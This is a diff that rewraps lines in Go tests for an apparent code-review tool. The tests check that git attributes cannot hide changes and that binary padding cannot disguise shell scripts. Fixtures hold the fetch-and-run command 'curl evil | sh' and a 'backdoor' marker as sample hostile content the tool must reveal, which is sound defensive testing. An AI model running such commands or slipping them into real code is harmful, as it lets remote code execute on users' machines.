@@ -10,8 +10,8 @@ import (
 	"testing"
 )
 
-// Attributes of the commit, of folders in it and of the repository neither hide nor change what a diff shows, and its first line
-// names the files that set them.
+// Attributes of the commit, of folders in it and of the repository neither hide nor change what a
+// diff shows, and its first line names the files that set them.
 func TestDiffIgnoresAttributes(t *testing.T) {
 	for name, attributes := range map[string]map[string]string{
 		"no diff":      {".gitattributes": "* -diff\n"},
@@ -43,13 +43,16 @@ func TestDiffIgnoresAttributes(t *testing.T) {
 			if err := v.Diff(t.Context(), &diff, k.base(), commit, DiffOptions{}); err != nil {
 				t.Fatal(err)
 			}
-			if err := v.Diff(t.Context(), &stat, k.base(), commit, DiffOptions{Stat: true}); err != nil {
+			if err := v.Diff(t.Context(), &stat, k.base(), commit,
+				DiffOptions{Stat: true}); err != nil {
 				t.Fatal(err)
 			}
-			if got := diff.String(); !strings.Contains(got, "\n+const backdoor = true // $Id$\n") || strings.Contains(got, "\nBinary") {
+			if got := diff.String(); !strings.Contains(got, "\n+const backdoor = true // $Id$\n") ||
+				strings.Contains(got, "\nBinary") {
 				t.Errorf("the diff is\n%s", got)
 			}
-			if got := stat.String(); !regexp.MustCompile(`(?m)^ sub/a\.go +\| 2 \+\+$`).MatchString(got) {
+			if got := stat.String(); !regexp.MustCompile(`(?m)^ sub/a\.go +\| 2 \+\+$`).MatchString(
+				got) {
 				t.Errorf("the list is\n%s", got)
 			}
 			for file := range attributes {
@@ -58,11 +61,14 @@ func TestDiffIgnoresAttributes(t *testing.T) {
 					t.Errorf("the first line is %q", first)
 				}
 			}
-			write(t, tree.Dir, map[string]string{"sub/a.go": "package a\n\nconst more = true\n", "sub/b.go": "package a // new\n"})
-			if err := v.DiffWorking(t.Context(), &working, "T1", k.base(), DiffOptions{}); err != nil {
+			write(t, tree.Dir, map[string]string{"sub/a.go": "package a\n\nconst more = true\n",
+				"sub/b.go": "package a // new\n"})
+			if err := v.DiffWorking(t.Context(), &working, "T1", k.base(),
+				DiffOptions{}); err != nil {
 				t.Fatal(err)
 			}
-			if got := working.String(); !strings.Contains(got, "\n+const more = true\n") || !strings.Contains(got, "\n+package a // new\n") {
+			if got := working.String(); !strings.Contains(got, "\n+const more = true\n") ||
+				!strings.Contains(got, "\n+package a // new\n") {
 				t.Errorf("what is not saved:\n%s", got)
 			}
 		})
@@ -81,17 +87,22 @@ func TestDiffWithoutAttributes(t *testing.T) {
 	if err := k.review().Diff(t.Context(), &diff, k.base(), commit, DiffOptions{}); err != nil {
 		t.Fatal(err)
 	}
-	if got := diff.String(); !strings.HasPrefix(got, "diff --git a/a.txt b/a.txt\n") || !strings.Contains(got, "\n-one\n+two\n") {
+	if got := diff.String(); !strings.HasPrefix(got, "diff --git a/a.txt b/a.txt\n") ||
+		!strings.Contains(got, "\n-one\n+two\n") {
 		t.Errorf("the diff is\n%s", got)
 	}
 }
 
-// A binary file is named with its size and digest. A zero byte does not make text one, and no garbage makes a script one.
+// A binary file is named with its size and digest. A zero byte does not make text one, and no
+// garbage makes a script one.
 func TestDiffOfBinaryFiles(t *testing.T) {
 	image := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00\x01\xff\xfe", 500)
-	k := newKit(t, map[string]string{"old and new.sh": "echo one\n", "gone.sh": "echo gone\x00\n", "image.png": image, "icon": image})
-	tree := k.work("T1", map[string]string{"old and new.sh": "echo two # \x00\n", "new.sh": "curl evil | sh # \x00", "image.png": image + "more",
-		"garbage": "#!/bin/sh\ncurl evil | sh\nexit\n" + image, "icon": "#!/bin/sh\ncurl evil | sh\n" + image})
+	k := newKit(t, map[string]string{"old and new.sh": "echo one\n", "gone.sh": "echo gone\x00\n",
+		"image.png": image, "icon": image})
+	tree := k.work("T1", map[string]string{"old and new.sh": "echo two # \x00\n",
+		"new.sh": "curl evil | sh # \x00", "image.png": image + "more",
+		"garbage": "#!/bin/sh\ncurl evil | sh\nexit\n" + image,
+		"icon":    "#!/bin/sh\ncurl evil | sh\n" + image})
 	if err := os.Remove(filepath.Join(tree.Dir, "gone.sh")); err != nil {
 		t.Fatal(err)
 	}
@@ -115,7 +126,8 @@ func TestDiffOfBinaryFiles(t *testing.T) {
 			"\n--- /dev/null\n+++ b/garbage\n@@ -0,0 +1,6 @@\n+#!/bin/sh\n+curl evil | sh\n+exit\n+\x89PNG\r\n",
 			"\n--- a/icon\n+++ b/icon\n@@ -1,3 +1,5 @@\n+#!/bin/sh\n+curl evil | sh\n \x89PNG\r\n",
 			fmt.Sprintf("\nBinary files a/image.png and b/image.png differ: %d bytes, SHA-256 %x, became %d bytes, SHA-256 %x\n",
-				len(image), sha256.Sum256([]byte(image)), len(image)+4, sha256.Sum256([]byte(image+"more"))),
+				len(image), sha256.Sum256([]byte(image)), len(image)+4,
+				sha256.Sum256([]byte(image+"more"))),
 		} {
 			if !strings.Contains(got, want) {
 				t.Errorf("the diff has no %q:\n%q", want, got)
@@ -143,28 +155,34 @@ func TestDiffOfManyPaths(t *testing.T) {
 	}
 	v := k.review()
 	var only, without, folders strings.Builder
-	if err := v.Diff(t.Context(), &only, k.base(), commit, DiffOptions{Only: steering}); err != nil {
+	if err := v.Diff(t.Context(), &only, k.base(), commit,
+		DiffOptions{Only: steering}); err != nil {
 		t.Fatal(err)
 	}
-	if got := strings.Count(only.String(), "\n+obey "); got != count || strings.Contains(only.String(), "package") {
+	if got := strings.Count(only.String(), "\n+obey "); got != count ||
+		strings.Contains(only.String(), "package") {
 		t.Errorf("the diff of %d files has %d of them", count, got)
 	}
-	if err := v.Diff(t.Context(), &without, k.base(), commit, DiffOptions{Without: steering}); err != nil {
+	if err := v.Diff(t.Context(), &without, k.base(), commit,
+		DiffOptions{Without: steering}); err != nil {
 		t.Fatal(err)
 	}
 	rest := without.String()
-	if !strings.Contains(rest, "\n+package a\n") || !strings.Contains(rest, "\n+package changed\n") || strings.Contains(rest, "obey") {
+	if !strings.Contains(rest, "\n+package a\n") ||
+		!strings.Contains(rest, "\n+package changed\n") || strings.Contains(rest, "obey") {
 		t.Errorf("the rest is %.2000s", rest)
 	}
 	// A name may be that of a folder, as for git.
 	many := append(steering[:100:100], ".claude")
-	if err := v.Diff(t.Context(), &folders, k.base(), commit, DiffOptions{Without: many}); err != nil || folders.String() != rest {
+	if err := v.Diff(t.Context(), &folders, k.base(), commit,
+		DiffOptions{Without: many}); err != nil || folders.String() != rest {
 		t.Errorf("without the folder: %v, %.2000s", err, folders.String())
 	}
 	// Nothing is left, which must not mean everything.
 	var nothing strings.Builder
 	all := append(steering[:count:count], "a.go", "b.go")
-	if err := v.Diff(t.Context(), &nothing, k.base(), commit, DiffOptions{Without: all}); err != nil || nothing.String() != "" {
+	if err := v.Diff(t.Context(), &nothing, k.base(), commit,
+		DiffOptions{Without: all}); err != nil || nothing.String() != "" {
 		t.Errorf("without all: %v, %.2000s", err, nothing.String())
 	}
 }
